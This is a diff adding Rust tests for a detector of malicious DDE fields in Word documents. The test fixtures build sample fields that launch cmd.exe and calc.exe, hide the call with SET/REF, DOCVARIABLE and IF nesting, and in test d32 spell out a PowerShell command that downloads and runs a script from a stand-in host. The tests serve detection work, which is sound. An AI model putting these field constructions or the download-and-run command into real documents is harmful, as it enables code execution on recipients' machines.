@@ -393,6 +393,122 @@ fn update_fields_and_dirty_make_plain_dde_automatic() {
     );
 }
 
+/// SET, REF and the simple field around them, refreshed with the document: the idiom P8 of §0.5.
+#[test]
+fn d15_set_and_ref() {
+    let set = |name: &str, value: &str| {
+        let runs = instruction(&format!("SET {name} \""))
+            + &nested(&format!("QUOTE{}", codes(value)))
+            + &instruction("\"");
+        paragraph(&(begin() + &runs + &end()))
+    };
+    // A simple field within the instruction: its children are instruction text.
+    let simple = |name: &str| {
+        format!(
+            "<w:fldSimple w:instr=\" REF {name} \">{}</w:fldSimple>",
+            instruction("?")
+        )
+    };
+    let dde = begin() + &instruction("DDE ") + &simple("c") + &instruction(" ") + &simple("d");
+    let body = set("c", r"C:\windows\system32\cmd.exe")
+        + &set("d", "/c calc.exe")
+        + &paragraph(&(dde + &end()));
+    let settings =
+        format!("<w:settings xmlns:w=\"{W}\"><w:updateFields w:val=\"true\"/></w:settings>");
+    let relation = rels(&[("r", "settings", "settings.xml", false)]);
+    let report = analyze(
+        &docx(&body)
+            .part("word/settings.xml", settings)
+            .part("word/_rels/document.xml.rels", relation)
+            .build(),
+    );
+    let finding = only(&report);
+    assert_eq!(
+        (finding.kind, finding.trigger),
+        (Kind::DdeAuto, Trigger::Open)
+    );
+    assert_eq!(
+        finding.service.as_deref(),
+        Some(r"C:\windows\system32\cmd.exe")
+    );
+    assert_eq!(finding.topic.as_deref(), Some("/c calc.exe"));
+    assert_eq!(finding.item, None);
+    assert!(techniques(finding).contains(&"update-fields"));
+    assert_eq!(report.verdict(), Verdict::Malicious);
+}
+
+#[test]
+fn d16_a_document_variable() {
+    let runs =
+        instruction("DDEAUTO ") + &nested("DOCVARIABLE p1") + &instruction(" \"/k calc.exe\"");
+    let settings = format!(
+        "<w:settings xmlns:w=\"{W}\"><w:docVars><w:docVar w:name=\"p1\" w:val=\"{STD_SERVICE}\"/>\
+         </w:docVars></w:settings>"
+    );
+    let relation = rels(&[("r", "settings", "settings.xml", false)]);
+    let report = analyze(
+        &docx(&paragraph(&field(&runs)))
+            .part("word/settings.xml", settings)
+            .part("word/_rels/document.xml.rels", relation)
+            .build(),
+    );
+    assert!(techniques(std_case(&report)).contains(&"nested-field"));
+}
+
+#[test]
+fn d17_in_the_branch_of_a_condition() {
+    let inner = begin() + &instruction(STD) + &separate() + &instruction("!") + &end();
+    let runs = instruction("IF 1 = 1 \"") + &inner + &instruction("\" \"no\"");
+    assert!(techniques(std_case(&with_field(&runs))).contains(&"nested-in-if"));
+}
+
+/// A chunk of another format.
+#[test]
+#[ignore = "pending: rtf reader"]
+fn d30_a_chunk_of_rtf() {
+    let rtf = format!(
+        "{}{{\\field{{\\*\\fldinst DDEAUTO {}}}{{\\fldrslt x}}}}}}",
+        super::support::word::rtf::PRE,
+        super::support::word::rtf::plain(CMD),
+    );
+    let bytes = super::support::word::ooxml::chunk("rtf", rtf.as_bytes());
+    let report = analyze(&bytes);
+    let finding = std_case(&report);
+    let path: Vec<_> = finding.location.path().collect();
+    assert!(path.contains(&"word/afchunk.rtf"), "{path:?}");
+    assert!(!techniques(finding).contains(&"unreachable"));
+}
+
+/// Three fields, as a public test document has them: one that runs, one whose keyword is none, one
+/// in literal braces.
+#[test]
+fn d32_remains_of_other_commands() {
+    let script = "powershell.exe $e=(New-Object System.Net.WebClient).DownloadString\
+                  ('http://example.invalid/a.ps1');powershell -e $e ";
+    let first = format!(r#" DDEAUTO c:\\Windows\\System32\\cmd.exe "/k {script}" "#);
+    let second = format!(r#" System32\\cmd.exe "/k {script}" "#);
+    let third = format!(r#" {{ DDEAUTO c:\\windows\\system32\\cmd.exe "/k {script}" }} "#);
+    let fields = [&first, &second, &third].map(|spelled| simple(spelled));
+    let report = body(&fields.concat());
+    let finding = only(&report);
+    assert_eq!(finding.kind, Kind::DdeAuto);
+    assert_eq!(
+        finding.service.as_deref(),
+        Some(r"c:\Windows\System32\cmd.exe")
+    );
+    assert_eq!(
+        finding.topic.as_deref(),
+        Some(format!("/k {script}").as_str())
+    );
+    assert_eq!(finding.location.field(), Some(1));
+    for other in report.findings().iter().filter(|f| f.kind != Kind::DdeAuto) {
+        assert_eq!(other.kind, Kind::Inert, "{other:#?}");
+        assert!(other.severity <= Severity::Low, "{other:#?}");
+    }
+    assert!(report.findings().len() <= 2, "{report:#?}");
+    assert_eq!(report.verdict(), Verdict::Malicious);
+}
+
 #[test]
 fn a_chunk_of_a_kind_not_read_yet_is_a_gap() {
     // D30, whose RTF reader is a later step: never clean until then.
